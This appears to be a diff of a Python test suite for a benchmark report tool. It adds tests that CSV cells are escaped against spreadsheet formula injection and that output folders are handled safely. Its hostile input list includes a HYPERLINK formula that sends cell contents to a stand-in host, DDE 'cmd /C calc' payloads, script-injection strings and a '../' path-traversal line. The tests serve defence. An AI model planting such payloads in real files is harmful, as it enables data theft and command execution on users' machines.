@@ -13,6 +13,7 @@ refuse an ``-o`` they must not write, in one line; and no credential an old fold
 
 from __future__ import annotations
 
+import csv
 import html
 import json
 import re
@@ -30,6 +31,7 @@ from cpubench.results import store
 from cpubench.spec import axes
 from tf_cnn_benchmarks.record import RunRecord, Samples
 
+ROOT = Path(__file__).resolve().parents[1]
 HOST, OTHER = "hostbox", "otherbox"
 
 # Each payload that could run script sets window.__pwned (and calls alert, which the probe hooks).
@@ -55,7 +57,13 @@ HOSTILE = [
     "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#123;&#123; site &#125;&#125;",
     "\x1b[31mred\x1b[0m \x1b]0;title\x07 nul\x00 bell\x07",
     "x" * 5000,
+    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "\uff1d1+1",
 ]
+# What a spreadsheet reads as the start of a formula (escape.csv_cell's list, spelled out here to check it).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 SECRETS = {"TF_TOKEN_app_terraform_io": "tok-3b1f9e7a", "TF_VAR_db_password": "pw-77c2e1d0", "TF_VAR_api_key": "k-5d0a"}
 
 
@@ -173,6 +181,14 @@ def test_each_escape_keeps_the_text_and_drops_its_power(text: str) -> None:
     assert "\x1b" not in escape.plain(text) and "\n" not in escape.plain(text)
 
 
+def test_a_csv_cell_never_starts_a_formula_and_numbers_stay_numbers() -> None:
+    for text in HOSTILE:
+        cell = escape.csv_cell(text)
+        assert not str(cell).startswith(FORMULA_START) and str(cell).lstrip("'") == text.lstrip("'")
+    assert escape.csv_cell("-2") == "'-2" and escape.csv_cell(-2.5) == -2.5 and escape.csv_cell(None) is None
+    assert escape.csv_cell("resnet50") == "resnet50"
+
+
 def test_ordinary_text_is_left_as_it_is() -> None:
     for text in ("syn-parameter_server-1cpus-inference-intra2", "Intel(R) Xeon(R) Gold 6248 CPU @ 2.50GHz",
                  "lenet on s2-a: 2 of 2 repeats failed: exit code 1: out of memory [1]; CV 7.1% > 5%",
@@ -255,6 +271,24 @@ def test_outputs_hold_the_text_and_nothing_it_could_do(rendered: Path) -> None:
     assert lenet.startswith('---\nlayout: scalebench\ntitle: "lenet"\n---\n')
     assert lenet.count("\n---\n") == 1  # the data's "---" lines did not end or start a front matter
     assert "&#123;% include /etc/passwd %&#125;" in lenet
+
+
+def test_no_csv_cell_the_outputs_hold_is_a_formula(rendered: Path) -> None:
+    """results.csv, relative.csv and the pages' CSVs open in a spreadsheet as text: the failure reasons and setting
+    names that start like a formula are there, each behind a ``'``."""
+    paths = [*sorted((rendered / "report").glob("*.csv")), *sorted((rendered / "site").rglob("*.csv"))]
+    assert {p.name for p in paths} >= {"results.csv", "relative.csv"}
+    for path in paths:
+        with path.open(newline="", encoding="utf-8") as f:
+            for row in csv.reader(f):
+                for cell in row:
+                    try:
+                        float(cell)
+                        continue  # a figure, negative or not, is a number to a spreadsheet
+                    except ValueError:
+                        assert not cell.startswith(FORMULA_START), (path.name, cell[:80])
+    results = (rendered / "report" / "results.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in results and "'@SUM(1+1)" in results and "'\uff1d1+1" in results
 
 
 @pytest.mark.skipif(not (shutil.which("jekyll") and shutil.which("chromium")), reason="needs jekyll and chromium")
@@ -355,6 +389,48 @@ def test_report_refuses_an_out_that_is_a_file(small: Path) -> None:
     p = cpubench(["report", "data", "-o", "out", "--docs", "taken", "--no-model-table", "--no-plots"], small)
     one_line_error(p, "report")
     assert (small / "taken").read_text() == "mine\n"
+
+
+def test_report_writes_into_a_non_empty_folder_only_when_it_wrote_it(small: Path) -> None:
+    theirs = small / "theirs"
+    theirs.mkdir()
+    (theirs / "summary.md").write_text("my own notes\n")
+    p = cpubench(["report", "data", "-o", "theirs", "--no-model-table", "--no-plots"], small)
+    one_line_error(p, "report")
+    assert "not empty" in p.stderr and (theirs / "summary.md").read_text() == "my own notes\n"
+
+
+def test_report_removes_only_the_stale_plots_it_drew(small: Path) -> None:
+    """A second report into its own folder removes the plots of settings no longer in the data, and nothing else:
+    not a PNG someone put there, not one a ``--no-plots`` report left, not a name the marker gives outside plots/."""
+    args = ["report", "data", "-o", "out", "--no-model-table"]
+    assert cpubench(args, small).returncode == 0
+    plots = small / "out" / "plots"
+    drawn = sorted(p.name for p in plots.glob("*.png"))
+    assert drawn and all(f"\n{n}\n" in (small / "out" / ".cpubench-report").read_text() for n in drawn)
+    (plots / "mine.png").write_bytes(b"\x89PNG mine")
+    (small / "keep.png").write_bytes(b"\x89PNG keep")
+    with (small / "out" / ".cpubench-report").open("a") as f:
+        f.write("../../keep.png\n")  # a marker from a folder someone sent: never a path
+    # The data changes: every record of the first setting is gone, so its plot is stale.
+    runs = small / "data" / HOST / store.RUNS_FILE
+    first, second = runs.read_text().splitlines()
+    runs.write_text(second + "\n")
+    assert cpubench([*args, "--no-plots"], small).returncode == 0
+    assert sorted(p.name for p in plots.glob("*.png")) == sorted([*drawn, "mine.png"])  # --no-plots removes none
+    assert cpubench(args, small).returncode == 0
+    now = sorted(p.name for p in plots.glob("*.png"))
+    assert "mine.png" in now and len(now) == len(drawn) and now != sorted([*drawn, "mine.png"])
+    assert (small / "keep.png").read_bytes() == b"\x89PNG keep"
+
+
+def test_report_writes_again_into_a_report_from_before_the_marker(small: Path) -> None:
+    old = small / "old"
+    shutil.copytree(ROOT / "tests" / "golden" / "schema2" / "report", old)
+    assert not (old / ".cpubench-report").exists() and (old / "results.json").is_file()
+    p = cpubench(["report", "data", "-o", "old", "--no-model-table", "--no-plots"], small)
+    assert p.returncode == 0, p.stderr
+    assert (old / ".cpubench-report").is_file() and HOST in (old / "summary.md").read_text()
 
 
 def test_pages_refuses_a_data_folder_without_hosts(small: Path) -> None:
